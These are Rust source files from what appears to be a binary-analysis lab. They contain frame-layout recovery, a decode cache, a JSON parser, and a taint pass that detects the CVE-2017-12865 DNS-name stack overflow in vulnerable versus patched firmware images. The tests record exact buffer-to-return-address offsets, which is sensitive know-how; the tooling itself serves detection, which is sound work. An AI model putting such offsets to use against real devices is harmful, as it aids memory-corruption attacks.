                        sp -= 4 * regs.len() as i64;
                        info.saved_regs += regs.len() as u32;
                        // Slot of register `k` in a push: ascending
                        // register number → ascending address.
                        for (slot, reg) in regs.iter().enumerate() {
                            if *reg == 14 {
                                info.ret_offset = Some(sp + 4 * slot as i64);
                            }
                        }
                    }
                    I::SubImm {
                        rd: 13,
                        rn: 13,
                        imm,
                        ..
                    } => {
                        sp -= imm as i64;
                        info.frame_size += imm;
                    }
                    I::MovReg { rm: 13, rd } if rd != 13 => take_buf(&mut info, sp),
                    I::AddImm {
                        rn: 13, rd, imm, ..
                    } if rd != 13 => take_buf(&mut info, sp + imm as i64),
                    _ => {}
                }
            }
            Op::Riscv(i) => {
                use cml_vm::riscv::Insn as I;
                match i {
                    I::Addi { rd: 2, rs1: 2, imm } => {
                        sp += imm as i64;
                        if imm < 0 {
                            info.frame_size += (-imm) as u32;
                        }
                    }
                    I::Sw {
                        rs2,
                        rs1: 2,
                        offset,
                    } => {
                        info.saved_regs += 1;
                        if rs2 == 1 {
                            info.ret_offset = Some(sp + offset as i64);
                        }
                    }
                    I::Addi { rd, rs1: 2, imm } if rd != 2 => {
                        take_buf(&mut info, sp + imm as i64);
                    }
                    _ => {}
                }
            }
        }
    }
    info
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg;
    use cml_firmware::build_image_for;

    fn frame(arch: Arch, patched: bool, name: &str) -> FrameInfo {
        let (img, _) = build_image_for(arch, 0, patched);
        let cfg = cfg::recover(&img);
        let f = cfg.function(name).expect("function recovered");
        frame_of(arch, f)
    }

    #[test]
    fn recovers_parse_response_frame_geometry() {
        for patched in [false, true] {
            let fx = frame(Arch::X86, patched, "parse_response");
            assert_eq!(fx.frame_size, 0x40C, "x86 patched={patched}");
            assert_eq!(fx.saved_regs, 1, "x86");
            assert_eq!(fx.buf_offset, Some(-1040), "x86");
            assert_eq!(fx.ret_offset, Some(0), "x86");
            assert_eq!(fx.buf_to_ret(), Some(1040), "x86");

            let fa = frame(Arch::Armv7, patched, "parse_response");
            assert_eq!(fa.frame_size, 0x410, "arm patched={patched}");
            assert_eq!(fa.saved_regs, 9, "arm");
            assert_eq!(fa.buf_offset, Some(-1076), "arm");
            assert_eq!(fa.ret_offset, Some(-4), "arm: lr is the top slot");
            assert_eq!(fa.buf_to_ret(), Some(1072), "arm");

            let fr = frame(Arch::Riscv, patched, "parse_response");
            assert_eq!(fr.frame_size, 0x424, "riscv patched={patched}");
            assert_eq!(fr.saved_regs, 3, "riscv: ra, s0, s1");
            assert_eq!(fr.buf_offset, Some(-1060), "riscv");
            assert_eq!(fr.ret_offset, Some(-4), "riscv: ra at the frame top");
            assert_eq!(fr.buf_to_ret(), Some(1056), "riscv");
        }
    }

    #[test]
    fn uninstrumented_images_have_no_canary_slot() {
        for arch in Arch::ALL {
            let fx = frame(arch, false, "parse_response");
            assert_eq!(fx.canary_offset, None, "{arch}");
        }
    }
}
