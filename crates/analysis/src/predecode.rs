//! Shared per-address predecode memo — the static twin of the VM's
//! predecoded instruction cache.
//!
//! CFG recovery, the taint pass and the value-set analysis all lift the
//! same text bytes; routing every decode through one memo table means
//! an address is decoded exactly once no matter how many passes (or
//! repeated analyses of the same image) consume it. Before this module
//! existed each pass carried its own copy of the memo; now they share
//! this one.

use std::collections::HashMap;

use cml_image::{Addr, Arch, Image};
use cml_vm::{arm, riscv, x86};

use crate::cfg::Op;

/// Per-address decode memo over one image.
pub struct Predecoder<'a> {
    image: &'a Image,
    arch: Arch,
    memo: HashMap<Addr, Option<(Op, u32)>>,
    hits: u64,
    misses: u64,
}

impl<'a> Predecoder<'a> {
    /// A fresh memo over `image`.
    pub fn new(image: &'a Image) -> Self {
        Predecoder {
            image,
            arch: image.arch(),
            memo: HashMap::new(),
            hits: 0,
            misses: 0,
        }
    }

    /// Decodes the instruction at `addr`, bounded by its section.
    /// Returns `None` for unmapped or undecodable bytes.
    pub fn decode_at(&mut self, addr: Addr) -> Option<(Op, u32)> {
        if let Some(cached) = self.memo.get(&addr) {
            self.hits += 1;
            return *cached;
        }
        self.misses += 1;
        let decoded = self.decode_uncached(addr);
        self.memo.insert(addr, decoded);
        decoded
    }

    /// Memo hits so far (an address decoded once, consumed again).
    pub fn hits(&self) -> u64 {
        self.hits
    }

    /// Memo misses so far (fresh decodes).
    pub fn misses(&self) -> u64 {
        self.misses
    }

    fn decode_uncached(&self, addr: Addr) -> Option<(Op, u32)> {
        let section = self.image.section_containing(addr)?;
        let off = (addr - section.base()) as usize;
        let bytes = section.bytes().get(off..)?;
        match self.arch {
            Arch::X86 => x86::decode(bytes)
                .ok()
                .map(|(i, len)| (Op::X86(i), len as u32)),
            Arch::Armv7 => arm::decode(bytes)
                .ok()
                .map(|(i, len)| (Op::Arm(i), len as u32)),
            Arch::Riscv => riscv::decode(bytes)
                .ok()
                .map(|(i, len)| (Op::Riscv(i), len as u32)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_firmware::build_image_for;

    #[test]
    fn second_decode_of_an_address_hits_the_memo() {
        let (img, _) = build_image_for(Arch::X86, 0, false);
        let entry = img.symbol("parse_response").unwrap().addr();
        let mut pred = Predecoder::new(&img);
        let first = pred.decode_at(entry).expect("decodes");
        let again = pred.decode_at(entry).expect("decodes");
        assert_eq!(first, again);
        assert_eq!(pred.misses(), 1);
        assert_eq!(pred.hits(), 1);
    }

    #[test]
    fn unmapped_addresses_memoize_as_undecodable() {
        let (img, _) = build_image_for(Arch::Armv7, 0, false);
        let mut pred = Predecoder::new(&img);
        assert!(pred.decode_at(0xDEAD_0001).is_none());
        assert!(pred.decode_at(0xDEAD_0001).is_none());
        assert_eq!(pred.misses(), 1);
        assert_eq!(pred.hits(), 1);
    }
}
