//! Minimal JSON tree: an emitter for the analysis report and a parser
//! so the schema can be round-trip tested without external crates (the
//! workspace is fully offline).
//!
//! Strings are [`Cow`]s: report emission borrows every name straight
//! out of the [`crate::AnalysisReport`] (no per-field `clone()` churn),
//! while the parser returns an owned `Value<'static>`.

use std::borrow::Cow;
use std::fmt;

/// A JSON value. The lifetime is the borrow of whatever the document
/// was built from; parsed documents are `Value<'static>`.
#[derive(Debug, Clone, PartialEq)]
pub enum Value<'a> {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// Any number (emitted without a trailing `.0` when integral).
    Num(f64),
    /// A string, borrowed or owned.
    Str(Cow<'a, str>),
    /// An array.
    Arr(Vec<Value<'a>>),
    /// An object; insertion order is preserved.
    Obj(Vec<(Cow<'a, str>, Value<'a>)>),
}

impl<'a> Value<'a> {
    /// Object field lookup.
    pub fn get(&self, key: &str) -> Option<&Value<'a>> {
        match self {
            Value::Obj(fields) => fields
                .iter()
                .find(|(k, _)| k.as_ref() == key)
                .map(|(_, v)| v),
            _ => None,
        }
    }

    /// The numeric value, if this is a number.
    pub fn as_num(&self) -> Option<f64> {
        match self {
            Value::Num(n) => Some(*n),
            _ => None,
        }
    }

    /// The string contents, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s.as_ref()),
            _ => None,
        }
    }

    /// The elements, if this is an array.
    pub fn as_arr(&self) -> Option<&[Value<'a>]> {
        match self {
            Value::Arr(items) => Some(items),
            _ => None,
        }
    }

    /// The boolean, if this is one.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }
}

/// Convenience: builds `Value::Str`, borrowing when it can.
pub fn s<'a>(v: impl Into<Cow<'a, str>>) -> Value<'a> {
    Value::Str(v.into())
}

/// Convenience: builds `Value::Num` from anything numeric.
pub fn n<'a>(v: impl Into<f64>) -> Value<'a> {
    Value::Num(v.into())
}

fn escape(out: &mut fmt::Formatter<'_>, s: &str) -> fmt::Result {
    write!(out, "\"")?;
    for c in s.chars() {
        match c {
            '"' => write!(out, "\\\"")?,
            '\\' => write!(out, "\\\\")?,
            '\n' => write!(out, "\\n")?,
            '\r' => write!(out, "\\r")?,
            '\t' => write!(out, "\\t")?,
            c if (c as u32) < 0x20 => write!(out, "\\u{:04x}", c as u32)?,
            c => write!(out, "{c}")?,
        }
    }
    write!(out, "\"")
}

impl fmt::Display for Value<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::Null => write!(f, "null"),
            Value::Bool(b) => write!(f, "{b}"),
            Value::Num(x) => {
                if x.fract() == 0.0 && x.abs() < 1e15 {
                    write!(f, "{}", *x as i64)
                } else {
                    write!(f, "{x}")
                }
            }
            Value::Str(s) => escape(f, s),
            Value::Arr(items) => {
                write!(f, "[")?;
                for (i, v) in items.iter().enumerate() {
                    if i > 0 {
                        write!(f, ",")?;
                    }
                    write!(f, "{v}")?;
                }
                write!(f, "]")
            }
            Value::Obj(fields) => {
                write!(f, "{{")?;
                for (i, (k, v)) in fields.iter().enumerate() {
                    if i > 0 {
                        write!(f, ",")?;
                    }
                    escape(f, k)?;
                    write!(f, ":{v}")?;
                }
                write!(f, "}}")
            }
        }
    }
}

/// Why a document failed to parse.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Byte offset of the offending character.
    pub at: usize,
    /// What the parser expected there.
    pub expected: &'static str,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "json parse error at byte {}: expected {}",
            self.at, self.expected
        )
    }
}

impl std::error::Error for ParseError {}

/// Parses a JSON document into an owned tree.
///
/// # Errors
///
/// Returns a [`ParseError`] locating the first malformed construct.
pub fn parse(text: &str) -> Result<Value<'static>, ParseError> {
    let bytes = text.as_bytes();
    let mut pos = 0usize;
    let v = parse_value(bytes, &mut pos)?;
    skip_ws(bytes, &mut pos);
    if pos != bytes.len() {
        return Err(ParseError {
            at: pos,
            expected: "end of document",
        });
    }
    Ok(v)
}

fn skip_ws(b: &[u8], pos: &mut usize) {
    while *pos < b.len() && matches!(b[*pos], b' ' | b'\t' | b'\n' | b'\r') {
        *pos += 1;
    }
}

fn expect(b: &[u8], pos: &mut usize, c: u8, what: &'static str) -> Result<(), ParseError> {
    if b.get(*pos) == Some(&c) {
        *pos += 1;
        Ok(())
    } else {
        Err(ParseError {
            at: *pos,
            expected: what,
        })
    }
}

fn parse_value(b: &[u8], pos: &mut usize) -> Result<Value<'static>, ParseError> {
    skip_ws(b, pos);
    match b.get(*pos) {
        Some(b'{') => parse_obj(b, pos),
        Some(b'[') => parse_arr(b, pos),
        Some(b'"') => Ok(Value::Str(Cow::Owned(parse_str(b, pos)?))),
        Some(b't') => parse_lit(b, pos, b"true", Value::Bool(true)),
        Some(b'f') => parse_lit(b, pos, b"false", Value::Bool(false)),
        Some(b'n') => parse_lit(b, pos, b"null", Value::Null),
        Some(c) if c.is_ascii_digit() || *c == b'-' => parse_num(b, pos),
        _ => Err(ParseError {
            at: *pos,
            expected: "a value",
        }),
    }
}

fn parse_lit(
    b: &[u8],
    pos: &mut usize,
    lit: &'static [u8],
    v: Value<'static>,
) -> Result<Value<'static>, ParseError> {
    if b.len() >= *pos + lit.len() && &b[*pos..*pos + lit.len()] == lit {
        *pos += lit.len();
        Ok(v)
    } else {
        Err(ParseError {
            at: *pos,
            expected: "a literal",
        })
    }
}

fn parse_num(b: &[u8], pos: &mut usize) -> Result<Value<'static>, ParseError> {
    let start = *pos;
    if b.get(*pos) == Some(&b'-') {
        *pos += 1;
    }
    while *pos < b.len()
        && (b[*pos].is_ascii_digit() || matches!(b[*pos], b'.' | b'e' | b'E' | b'+' | b'-'))
    {
        *pos += 1;
    }
    std::str::from_utf8(&b[start..*pos])
        .ok()
        .and_then(|s| s.parse::<f64>().ok())
        .map(Value::Num)
        .ok_or(ParseError {
            at: start,
            expected: "a number",
        })
}

fn parse_str(b: &[u8], pos: &mut usize) -> Result<String, ParseError> {
    expect(b, pos, b'"', "a string")?;
    let mut out = String::new();
    loop {
        match b.get(*pos) {
            None => {
                return Err(ParseError {
                    at: *pos,
                    expected: "a closing quote",
                })
            }
            Some(b'"') => {
                *pos += 1;
                return Ok(out);
            }
            Some(b'\\') => {
                *pos += 1;
                match b.get(*pos) {
                    Some(b'"') => out.push('"'),
                    Some(b'\\') => out.push('\\'),
                    Some(b'/') => out.push('/'),
                    Some(b'n') => out.push('\n'),
                    Some(b'r') => out.push('\r'),
                    Some(b't') => out.push('\t'),
                    Some(b'u') => {
                        let hex = b
                            .get(*pos + 1..*pos + 5)
                            .and_then(|h| std::str::from_utf8(h).ok())
                            .and_then(|h| u32::from_str_radix(h, 16).ok())
                            .and_then(char::from_u32)
                            .ok_or(ParseError {
                                at: *pos,
                                expected: "a \\uXXXX escape",
                            })?;
                        out.push(hex);
                        *pos += 4;
                    }
                    _ => {
                        return Err(ParseError {
                            at: *pos,
                            expected: "an escape character",
                        })
                    }
                }
                *pos += 1;
            }
            Some(&c) => {
                // Multi-byte UTF-8 sequences pass through unmodified.
                let len = match c {
                    0x00..=0x7F => 1,
                    0xC0..=0xDF => 2,
                    0xE0..=0xEF => 3,
                    _ => 4,
                };
                let chunk = b.get(*pos..*pos + len).ok_or(ParseError {
                    at: *pos,
                    expected: "a utf-8 sequence",
                })?;
                out.push_str(std::str::from_utf8(chunk).map_err(|_| ParseError {
                    at: *pos,
                    expected: "valid utf-8",
                })?);
                *pos += len;
            }
        }
    }
}

fn parse_arr(b: &[u8], pos: &mut usize) -> Result<Value<'static>, ParseError> {
    expect(b, pos, b'[', "an array")?;
    let mut items = Vec::new();
    skip_ws(b, pos);
    if b.get(*pos) == Some(&b']') {
        *pos += 1;
        return Ok(Value::Arr(items));
    }
    loop {
        items.push(parse_value(b, pos)?);
        skip_ws(b, pos);
        match b.get(*pos) {
            Some(b',') => *pos += 1,
            Some(b']') => {
                *pos += 1;
                return Ok(Value::Arr(items));
            }
            _ => {
                return Err(ParseError {
                    at: *pos,
                    expected: "',' or ']'",
                })
            }
        }
    }
}

fn parse_obj(b: &[u8], pos: &mut usize) -> Result<Value<'static>, ParseError> {
    expect(b, pos, b'{', "an object")?;
    let mut fields = Vec::new();
    skip_ws(b, pos);
    if b.get(*pos) == Some(&b'}') {
        *pos += 1;
        return Ok(Value::Obj(fields));
    }
    loop {
        skip_ws(b, pos);
        let key = parse_str(b, pos)?;
        skip_ws(b, pos);
        expect(b, pos, b':', "':'")?;
        let value = parse_value(b, pos)?;
        fields.push((Cow::Owned(key), value));
        skip_ws(b, pos);
        match b.get(*pos) {
            Some(b',') => *pos += 1,
            Some(b'}') => {
                *pos += 1;
                return Ok(Value::Obj(fields));
            }
            _ => {
                return Err(ParseError {
                    at: *pos,
                    expected: "',' or '}'",
                })
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_nested() {
        let v = Value::Obj(vec![
            ("name".into(), s("parse_response")),
            ("count".into(), n(3u32)),
            ("clean".into(), Value::Bool(false)),
            (
                "items".into(),
                Value::Arr(vec![n(1u32), s("a\"b\\c\n"), Value::Null]),
            ),
        ]);
        let text = v.to_string();
        assert_eq!(parse(&text).unwrap(), v);
    }

    #[test]
    fn strings_can_borrow_their_source() {
        let owner = String::from("parse_response");
        let v = s(owner.as_str());
        assert!(matches!(v, Value::Str(Cow::Borrowed(_))));
        assert_eq!(v.as_str(), Some("parse_response"));
    }

    #[test]
    fn integers_emitted_without_fraction() {
        assert_eq!(n(1024u32).to_string(), "1024");
        assert_eq!(n(0.5f64).to_string(), "0.5");
    }

    #[test]
    fn rejects_trailing_garbage() {
        assert!(parse("{} x").is_err());
        assert!(parse("[1,]").is_err());
    }
}
