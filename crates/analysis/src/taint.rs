//! Static taint pass: DNS-response bytes → fixed-size stack buffers.
//!
//! The pass runs a small abstract interpretation over each recovered
//! function. In a configured *source* function (by default
//! `parse_response`, whose argument is the decompressing DNS response)
//! the incoming packet pointer is seeded as tainted; loads through it
//! yield tainted data, and stores of tainted data through stack-derived
//! pointers are candidate sinks. A candidate becomes a finding when it
//! sits inside a loop none of whose exits compare an *untainted* value
//! against a constant — i.e. the copy runs until attacker-controlled
//! data says stop, the exact shape of CVE-2017-12865's `get_name`.
//! The bounds-checked 1.35 body adds a counter-vs-capacity exit, which
//! is untainted-vs-constant, so the same loop is classified bounded and
//! the pass stays quiet.
//!
//! This is a may-taint analysis: joins prefer `Tainted`, and pointer
//! classes collapse to `Top` on conflict. Buffer capacities come from
//! [`TaintConfig`] frame metadata (the lab's stand-in for DWARF variable
//! info).

use std::collections::{BTreeSet, HashMap};

use cml_image::{Addr, Arch};
use cml_vm::{arm, x86, X86Reg};

use crate::cfg::{BasicBlock, Cfg, Function, Op, Terminator};

/// Abstract value tracked per register.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Abs {
    /// Unknown.
    Top,
    /// A known constant (from an immediate move / register zeroing).
    Const(u32),
    /// Pointer into the tainted input (the DNS response).
    ArgPtr,
    /// Data derived from the tainted input.
    Tainted,
    /// Pointer into the current stack frame.
    StackPtr,
}

impl Abs {
    fn join(self, other: Abs) -> Abs {
        if self == other {
            self
        } else if self == Abs::Tainted || other == Abs::Tainted {
            Abs::Tainted
        } else {
            Abs::Top
        }
    }

    fn is_tainted(self) -> bool {
        matches!(self, Abs::Tainted | Abs::ArgPtr)
    }

    fn is_const(self) -> bool {
        matches!(self, Abs::Const(_))
    }

    /// Pointer arithmetic / increments preserve pointer and taint
    /// classes; a stale constant becomes unknown.
    fn after_arith(self) -> Abs {
        match self {
            Abs::ArgPtr | Abs::StackPtr | Abs::Tainted => self,
            Abs::Const(_) | Abs::Top => Abs::Top,
        }
    }
}

/// Per-program-point abstract state: 16 register slots (x86 uses the
/// low 8) plus the class pair of the last flag-setting comparison.
#[derive(Debug, Clone, PartialEq)]
struct State {
    regs: [Abs; 16],
    flags: (Abs, Abs),
}

impl State {
    fn entry(arch: Arch, is_source: bool) -> State {
        let mut regs = [Abs::Top; 16];
        match arch {
            Arch::X86 => {
                regs[X86Reg::Esp.bits() as usize] = Abs::StackPtr;
            }
            Arch::Armv7 => {
                regs[13] = Abs::StackPtr;
                if is_source {
                    regs[0] = Abs::ArgPtr;
                }
            }
        }
        State {
            regs,
            flags: (Abs::Top, Abs::Top),
        }
    }

    /// Joins `other` in; returns whether anything widened.
    fn join_with(&mut self, other: &State) -> bool {
        let mut changed = false;
        for i in 0..16 {
            let j = self.regs[i].join(other.regs[i]);
            if j != self.regs[i] {
                self.regs[i] = j;
                changed = true;
            }
        }
        let f = (
            self.flags.0.join(other.flags.0),
            self.flags.1.join(other.flags.1),
        );
        if f != self.flags {
            self.flags = f;
            changed = true;
        }
        changed
    }
}

/// A store of some abstract value through a stack-derived pointer.
#[derive(Debug, Clone, Copy)]
struct StackStore {
    addr: Addr,
    value: Abs,
}

/// Source/sink configuration.
#[derive(Debug, Clone)]
pub struct TaintConfig {
    /// Functions whose arguments carry attacker-controlled bytes.
    pub sources: Vec<String>,
    /// Frame metadata: function name → stack-buffer capacity in bytes
    /// (the lab's stand-in for DWARF local-variable info).
    pub sink_capacities: Vec<(String, u32)>,
}

impl Default for TaintConfig {
    fn default() -> Self {
        TaintConfig {
            sources: vec![cml_connman::SYM_PARSE_RESPONSE.to_string()],
            sink_capacities: vec![(
                cml_connman::SYM_PARSE_RESPONSE.to_string(),
                cml_connman::NAME_BUFFER_SIZE as u32,
            )],
        }
    }
}

/// One tainted, unbounded copy into a stack buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TaintFinding {
    /// Function the flow lives in.
    pub function: String,
    /// Address of (one of) the offending store instruction(s).
    pub store_addr: Addr,
    /// Head of the unbounded copy loop.
    pub loop_head: Addr,
    /// Human-readable taint source.
    pub source: String,
    /// Human-readable sink description.
    pub sink: String,
    /// Sink buffer capacity in bytes (0 when unknown).
    pub capacity: u32,
}

/// Runs the taint pass over a recovered CFG.
pub fn taint_pass(cfg: &Cfg, config: &TaintConfig) -> Vec<TaintFinding> {
    let mut findings = Vec::new();
    for f in &cfg.functions {
        let is_source = config.sources.iter().any(|s| s == &f.name);
        findings.extend(analyze_function(cfg.arch, f, is_source, config));
    }
    findings
}

fn analyze_function(
    arch: Arch,
    f: &Function,
    is_source: bool,
    config: &TaintConfig,
) -> Vec<TaintFinding> {
    if f.blocks.is_empty() {
        return Vec::new();
    }
    let idx: HashMap<Addr, usize> = f
        .blocks
        .iter()
        .enumerate()
        .map(|(i, b)| (b.start, i))
        .collect();
    let n = f.blocks.len();

    // Fixed point over block input states.
    let mut inputs: Vec<Option<State>> = vec![None; n];
    inputs[0] = Some(State::entry(arch, is_source));
    loop {
        let mut changed = false;
        for i in 0..n {
            let Some(mut st) = inputs[i].clone() else {
                continue;
            };
            walk_block(&mut st, &f.blocks[i], is_source, None);
            for succ in &f.blocks[i].succs {
                let Some(&j) = idx.get(succ) else { continue };
                match &mut inputs[j] {
                    slot @ None => {
                        *slot = Some(st.clone());
                        changed = true;
                    }
                    Some(existing) => changed |= existing.join_with(&st),
                }
            }
        }
        if !changed {
            break;
        }
    }

    // Final pass: collect stack stores and per-block exit flag states.
    let mut stores: Vec<StackStore> = Vec::new();
    let mut exit_flags: Vec<Option<(Abs, Abs)>> = vec![None; n];
    for i in 0..n {
        let Some(mut st) = inputs[i].clone() else {
            continue;
        };
        walk_block(&mut st, &f.blocks[i], is_source, Some(&mut stores));
        exit_flags[i] = Some(st.flags);
    }

    // Natural-loop approximation: a back edge `b -> h` (h ≤ b.start)
    // bounds the address range [h, b.end). Sufficient for the reducible
    // compiler-shaped loops these images contain.
    let loops: Vec<(Addr, Addr)> = f
        .blocks
        .iter()
        .flat_map(|b| {
            b.succs
                .iter()
                .filter(move |&&s| s <= b.start)
                .map(move |&s| (s, b.end))
        })
        .collect();

    let capacity = config
        .sink_capacities
        .iter()
        .find(|(name, _)| name == &f.name)
        .map_or(0, |(_, c)| *c);

    let mut out = Vec::new();
    let mut seen: BTreeSet<(Addr, Addr)> = BTreeSet::new();
    for store in stores.iter().filter(|s| s.value == Abs::Tainted) {
        for &(head, end) in &loops {
            let in_loop = store.addr >= head && store.addr < end;
            if !in_loop || !seen.insert((head, store.addr)) {
                continue;
            }
            if loop_has_bounding_exit(f, &exit_flags, head, end) {
                continue;
            }
            out.push(TaintFinding {
                function: f.name.clone(),
                store_addr: store.addr,
                loop_head: head,
                source: format!("DNS response bytes ({} argument)", f.name),
                sink: if capacity > 0 {
                    format!("{capacity}-byte stack name buffer")
                } else {
                    "stack buffer (capacity unknown)".to_string()
                },
                capacity,
            });
        }
    }
    // One finding per loop is enough signal; collapse duplicate stores.
    out.sort_by_key(|f| (f.loop_head, f.store_addr));
    out.dedup_by_key(|f| f.loop_head);
    out
}

/// Whether any conditional exit of the loop `[head, end)` compares an
/// untainted value against a constant — the signature of a capacity
/// check.
fn loop_has_bounding_exit(
    f: &Function,
    exit_flags: &[Option<(Abs, Abs)>],
    head: Addr,
    end: Addr,
) -> bool {
    let in_range = |a: Addr| a >= head && a < end;
    f.blocks.iter().enumerate().any(|(i, b)| {
        if !in_range(b.start) {
            return false;
        }
        let Terminator::Branch { taken, fall } = b.term else {
            return false;
        };
        if in_range(taken) && in_range(fall) {
            return false; // not an exit
        }
        let Some((l, r)) = exit_flags[i] else {
            return false;
        };
        !l.is_tainted() && !r.is_tainted() && (l.is_const() || r.is_const())
    })
}

fn walk_block(
    st: &mut State,
    b: &BasicBlock,
    is_source: bool,
    mut stores: Option<&mut Vec<StackStore>>,
) {
    for insn in &b.insns {
        match insn.op {
            Op::X86(i) => step_x86(st, &i, is_source, insn.addr, stores.as_deref_mut()),
            Op::Arm(i) => step_arm(st, &i, insn.addr, stores.as_deref_mut()),
        }
    }
}

fn step_x86(
    st: &mut State,
    i: &x86::Insn,
    is_source: bool,
    addr: Addr,
    stores: Option<&mut Vec<StackStore>>,
) {
    use x86::Insn as I;
    use x86::Operand as O;
    let r = |reg: X86Reg| reg.bits() as usize;
    match *i {
        I::MovRImm(d, v) => st.regs[r(d)] = Abs::Const(v),
        I::MovR8Imm(d, _) => st.regs[r(d)] = Abs::Top,
        I::MovRmR { dst, src } => match dst {
            O::Reg(d) => st.regs[r(d)] = st.regs[r(src)],
            O::Mem { base: Some(b), .. } => {
                if st.regs[r(b)] == Abs::StackPtr {
                    if let Some(out) = stores {
                        out.push(StackStore {
                            addr,
                            value: st.regs[r(src)],
                        });
                    }
                }
            }
            O::Mem { base: None, .. } => {}
        },
        I::MovRRm { dst, src } | I::Movzx8 { dst, src } => {
            st.regs[r(dst)] = load_class(st, src, is_source, &r);
        }
        I::Lea { dst, src } => {
            st.regs[r(dst)] = match src {
                O::Mem { base: Some(b), .. } => st.regs[r(b)].after_arith(),
                _ => Abs::Top,
            };
        }
        I::XorRmR {
            dst: O::Reg(d),
            src,
        } if d == src => st.regs[r(d)] = Abs::Const(0),
        I::XorRmR { dst: O::Reg(d), .. }
        | I::AndRmR { dst: O::Reg(d), .. }
        | I::OrRmR { dst: O::Reg(d), .. } => st.regs[r(d)] = Abs::Top,
        I::AddRmImm8 { dst: O::Reg(d), .. } | I::SubRmImm8 { dst: O::Reg(d), .. } => {
            st.regs[r(d)] = st.regs[r(d)].after_arith();
        }
        I::IncR(d) | I::DecR(d) => st.regs[r(d)] = st.regs[r(d)].after_arith(),
        I::ShlRImm8 { reg, .. } | I::ShrRImm8 { reg, .. } => st.regs[r(reg)] = Abs::Top,
        I::PopR(d) => st.regs[r(d)] = Abs::Top,
        I::XchgEaxR(d) => {
            let eax = r(X86Reg::Eax);
            st.regs.swap(eax, r(d));
        }
        I::TestRmR { dst, src } | I::CmpRmR { dst, src } => {
            st.flags = (load_class(st, dst, is_source, &r), st.regs[r(src)]);
        }
        I::CmpRmImm8 { dst, imm } => {
            st.flags = (
                load_class(st, dst, is_source, &r),
                Abs::Const(imm as i32 as u32),
            );
        }
        I::CallRel32(_) | I::CallRm(_) => {
            // Caller-saved registers are clobbered by the callee.
            for reg in [X86Reg::Eax, X86Reg::Ecx, X86Reg::Edx] {
                st.regs[r(reg)] = Abs::Top;
            }
        }
        _ => {}
    }
}

/// The abstract value read through an operand: argument slots of a
/// source function yield [`Abs::ArgPtr`] (the DNS response pointer);
/// dereferencing a tainted pointer yields tainted data.
fn load_class(
    st: &State,
    operand: x86::Operand,
    is_source: bool,
    r: &impl Fn(X86Reg) -> usize,
) -> Abs {
    match operand {
        x86::Operand::Reg(s) => st.regs[r(s)],
        x86::Operand::Mem {
            base: Some(b),
            disp,
        } => match st.regs[r(b)] {
            Abs::StackPtr if is_source && disp >= 8 => Abs::ArgPtr,
            Abs::ArgPtr | Abs::Tainted => Abs::Tainted,
            _ => Abs::Top,
        },
        x86::Operand::Mem { base: None, .. } => Abs::Top,
    }
}

fn step_arm(st: &mut State, i: &arm::Insn, addr: Addr, stores: Option<&mut Vec<StackStore>>) {
    use arm::Insn as I;
    match *i {
        I::MovImm { rd, imm } => st.regs[rd as usize] = Abs::Const(imm),
        I::MvnImm { rd, .. } => st.regs[rd as usize] = Abs::Top,
        I::MovReg { rd, rm } => st.regs[rd as usize] = st.regs[rm as usize],
        I::AddImm { rd, rn, .. } | I::SubImm { rd, rn, .. } => {
            st.regs[rd as usize] = st.regs[rn as usize].after_arith();
        }
        I::OrrImm { rd, .. } | I::AndImm { rd, .. } | I::EorImm { rd, .. } => {
            st.regs[rd as usize] = Abs::Top;
        }
        I::LslImm { rd, .. } => st.regs[rd as usize] = Abs::Top,
        I::CmpImm { rn, imm } => st.flags = (st.regs[rn as usize], Abs::Const(imm)),
        I::Ldr { rd, rn, .. } | I::Ldrb { rd, rn, .. } => {
            st.regs[rd as usize] = match st.regs[rn as usize] {
                Abs::ArgPtr | Abs::Tainted => Abs::Tainted,
                _ => Abs::Top,
            };
        }
        I::Str { rd, rn, .. } | I::Strb { rd, rn, .. } if st.regs[rn as usize] == Abs::StackPtr => {
            if let Some(out) = stores {
                out.push(StackStore {
                    addr,
                    value: st.regs[rd as usize],
                });
            }
        }
        I::Pop { list } => {
            for reg in arm::reg_list(list) {
                if reg != 15 && reg != 13 {
                    st.regs[reg as usize] = Abs::Top;
                }
            }
        }
        I::Bl { .. } | I::Blx { .. } => {
            // AAPCS caller-saved registers.
            for reg in 0..4 {
                st.regs[reg] = Abs::Top;
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg;
    use cml_firmware::build_image_for;

    #[test]
    fn flags_vulnerable_quiet_on_patched() {
        for arch in Arch::ALL {
            let (vuln, _) = build_image_for(arch, 0, false);
            let findings = taint_pass(&cfg::recover(&vuln), &TaintConfig::default());
            assert_eq!(findings.len(), 1, "{arch}: expected exactly one finding");
            let f = &findings[0];
            assert_eq!(f.function, "parse_response", "{arch}");
            assert_eq!(f.capacity, 1024, "{arch}");
            assert!(f.source.contains("DNS response"), "{arch}");

            let (fixed, _) = build_image_for(arch, 0, true);
            let quiet = taint_pass(&cfg::recover(&fixed), &TaintConfig::default());
            assert!(
                quiet.is_empty(),
                "{arch}: patched body must be clean: {quiet:?}"
            );
        }
    }

    #[test]
    fn non_source_functions_stay_untainted() {
        let (img, _) = build_image_for(Arch::X86, 0, false);
        let config = TaintConfig {
            sources: vec!["daemon_loop".to_string()],
            sink_capacities: Vec::new(),
        };
        assert!(taint_pass(&cfg::recover(&img), &config).is_empty());
    }
}
