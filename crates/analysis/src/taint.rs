//! Static taint pass: DNS-response bytes → fixed-size stack buffers.
//!
//! The pass runs a small abstract interpretation over each recovered
//! function. In a *source* function (by default `forward_dns_reply`,
//! where the raw DNS reply first enters dnsproxy) the incoming packet
//! pointer is seeded as tainted; loads through it yield tainted data,
//! and stores of tainted data through stack-derived pointers are
